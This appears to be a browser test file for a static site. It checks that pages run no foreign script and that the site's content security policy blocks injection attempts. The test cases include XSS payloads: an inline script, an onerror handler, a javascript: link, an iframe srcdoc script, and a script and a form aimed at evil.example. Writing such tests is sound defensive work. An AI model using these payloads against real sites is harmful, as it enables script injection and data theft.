/** Nothing runs but the site's own script, nothing is loaded from elsewhere, and the pages obey their own policy. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { MARK } from "../pipeline/hostile.js";
import { INTRUDERS, samplePages, writtenPages } from "./crawl.js";
import type { SiteName } from "./setup.js";
import { siteNamed, useBrowser, type Visit, visit } from "./visit.js";

useBrowser();

/** Every hostile page is shown. Of a kind of other pages some are, and links.test.ts reads the markup of all. */
const shownPages = (name: SiteName) => (name === "below" ? samplePages : writtenPages)(siteNamed(name));

describe.each(["below", "hostile", "empty"] as const)("the site '%s'", (name) => {
  test("runs nothing of its articles, leaves its origin nowhere, breaks no rule and logs no error", async () => {
    const site = siteNamed(name);
    const { page, faults, close } = await visit(site);
    for (const path of await shownPages(name)) {
      const url = site.origin + site.base + path;
      await page.goto(url, { waitUntil: "load" });
      expect(page.url()).toBe(url);
      const { isTricked, foreign, handlers } = await page.evaluate(
        ([mark, selector]) => {
          const all = [...document.querySelectorAll("*")];
          return {
            isTricked: mark in globalThis,
            foreign: all
              .filter((one) => one.matches(selector))
              .map(({ outerHTML }) => outerHTML.slice(0, 200)),
            handlers: all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
          };
        },
        [MARK, INTRUDERS] as const,
      );
      expect(isTricked).toBe(false);
      expect(foreign).toEqual([]);
      expect(handlers).toEqual([]);
    }
    expect(faults).toEqual([]);
    await close();
  });
});

describe("the policy, should one ever come through, stops", () => {
  let shared: Visit;
  beforeAll(async () => {
    shared = await visit(siteNamed("news"));
  });
  afterAll(() => shared?.close());

  test.each([
    [
      "an inline script",
      `const s = document.createElement("script"); s.textContent = "window.${MARK} = 1"; document.body.append(s);`,
    ],
    [
      "a handler in markup",
      `document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.${MARK} = 1">');`,
    ],
    [
      "a script from elsewhere",
      `const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s);`,
    ],
    [
      "a javascript: link",
      `document.body.insertAdjacentHTML("beforeend", '<a id="trap" href="javascript:void(window.${MARK} = 1)">x</a>'); document.querySelector("#trap").click();`,
    ],
    [
      "a frame",
      `const f = document.createElement("iframe"); f.srcdoc = "<script>parent.${MARK} = 1</" + "script>"; document.body.append(f);`,
    ],
    [
      "a form to elsewhere",
      `document.body.insertAdjacentHTML("beforeend", '<form id="trap" action="https://evil.example/"></form>'); document.querySelector("#trap").requestSubmit();`,
    ],
  ])("%s", async (_, attack) => {
    const site = siteNamed("news");
    const { page, faults } = shared;
    faults.splice(0);
    await page.goto(site.origin + site.base);
    expect(faults).toEqual([]);
    await page.evaluate(attack);
    await expect.poll(() => faults.some((fault) => fault.startsWith("policy:"))).toBe(true);
    expect(await page.evaluate((mark) => mark in globalThis, MARK)).toBe(false);
    expect(page.url()).toBe(site.origin + site.base);
    expect(faults.filter((fault) => fault.startsWith("request to"))).toEqual([]);
  });
});
